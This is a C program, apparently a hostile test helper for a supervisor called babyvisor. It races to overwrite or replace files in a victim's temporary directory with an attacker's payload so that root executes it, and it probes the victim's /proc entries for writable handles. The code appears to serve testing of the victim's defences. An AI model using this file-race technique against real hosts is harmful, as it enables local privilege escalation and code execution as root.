/* Plays another user of the host, who wants root to execute what is not root's.
 *
 * Use: attacker DIRECTORY PAYLOAD; the directory is where the victim makes its temporary files, and
 * may be the attacker's own. Each file that appears there is overwritten with the payload if it can
 * be opened, and replaced by it if not; directories are entered; the descriptors and the executable
 * of each process named babyvisor are tried. Prints "ready", then a line for each thing it has
 * done. Ends with its standard input. */
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

#define EVENTS    (IN_CREATE | IN_ATTRIB | IN_MODIFY | IN_MOVED_TO)
#define WATCHES   256
#define PATH_SIZE 512

static char payload[4096];
static size_t payload_length;
static char watched[WATCHES][PATH_SIZE]; /* by watch descriptor */

/* Writes the payload through a path that can be opened, and leaves alone what has it already. */
static bool overwrite(const char *path)
{
    char there[sizeof(payload)];
    int fd = open(path, O_RDWR | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC);
    bool done = false;

    if (fd < 0)
        return false;
    if (read(fd, there, sizeof(there)) != (ssize_t)payload_length ||
        memcmp(there, payload, payload_length) != 0)
        done = ftruncate(fd, 0) == 0 && pwrite(fd, payload, payload_length, 0) > 0;
    close(fd);
    return done;
}

static void replace(const char *path)
{
    char aside[PATH_SIZE + 8];
    int fd;

    if (strstr(path, ".aside") || access(path, R_OK) == 0)
        return;
    snprintf(aside, sizeof(aside), "%s.aside", path);
    if (rename(path, aside) < 0)
        return;
    fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
    if (fd < 0)
        return;
    if (write(fd, payload, payload_length) > 0)
        printf("replaced %s\n", path);
    close(fd);
}

static void watch(int notify, const char *path)
{
    const int number = inotify_add_watch(notify, path, EVENTS);

    if (number >= 0 && number < WATCHES)
        snprintf(watched[number], sizeof(watched[number]), "%s", path);
}

static void attack(const char *path)
{
    if (overwrite(path))
        printf("overwrote %s\n", path);
    else
        replace(path);
}

static void take_events(int notify)
{
    char bytes[8192] __attribute__((aligned(__alignof__(struct inotify_event))));
    const ssize_t got = read(notify, bytes, sizeof(bytes));

    for (ssize_t at = 0; at < got;) {
        const struct inotify_event *event = (const void *)(bytes + at);
        char path[PATH_SIZE];

        at += (ssize_t)(sizeof(*event) + event->len);
        if (event->len == 0 || event->wd < 0 || event->wd >= WATCHES ||
            snprintf(path, sizeof(path), "%s/%s", watched[event->wd], event->name) >=
                (int)sizeof(path))
            continue;
        if (event->mask & IN_ISDIR)
            watch(notify, path);
        else
            attack(path);
    }
}

static bool is_victim(const char *process)
{
    char path[PATH_SIZE], name[32] = "";
    int fd;

    snprintf(path, sizeof(path), "/proc/%.20s/comm", process);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return false;
    if (read(fd, name, sizeof(name) - 1) < 0)
        name[0] = '\0';
    close(fd);
    return strcmp(name, "babyvisor\n") == 0;
}

/* What can be opened for writing by way of the victim's processes: says so and writes nothing,
 * since it may be anything. */
static void attack_processes(void)
{
    DIR *processes = opendir("/proc");
    struct dirent *entry;

    while (processes && (entry = readdir(processes))) {
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || !is_victim(entry->d_name))
            continue;
        for (int number = 2; number < 12; number++) {
            char path[PATH_SIZE];
            int fd;

            if (number == 2)
                snprintf(path, sizeof(path), "/proc/%.20s/exe", entry->d_name);
            else
                snprintf(path, sizeof(path), "/proc/%.20s/fd/%d", entry->d_name, number);
            fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
            if (fd < 0)
                continue;
            printf("opened %s\n", path);
            close(fd);
        }
    }
    if (processes)
        closedir(processes);
}

int main(int argc, char **argv)
{
    const int notify = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
    struct pollfd polls[] = {{notify, POLLIN, 0}, {STDIN_FILENO, POLLIN, 0}};
    FILE *file;

    if (argc != 3 || notify < 0 || !(file = fopen(argv[2], "r")))
        return 99;
    payload_length = fread(payload, 1, sizeof(payload), file);
    fclose(file);
    setvbuf(stdout, NULL, _IOLBF, 0);
    watch(notify, argv[1]);
    puts("ready");
    while (!polls[1].revents) {
        if (poll(polls, 2, 20) == 0)
            attack_processes();
        take_events(notify);
    }
    return 0;
}
